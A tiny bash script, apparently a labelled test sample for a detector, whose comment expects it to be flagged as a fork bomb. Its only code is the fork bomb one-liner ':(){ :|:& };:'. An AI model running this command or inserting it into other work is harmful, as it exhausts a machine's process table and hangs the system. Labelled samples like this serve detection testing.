#!/bin/bash
# expect: fork-bomb
:(){ :|:& };:
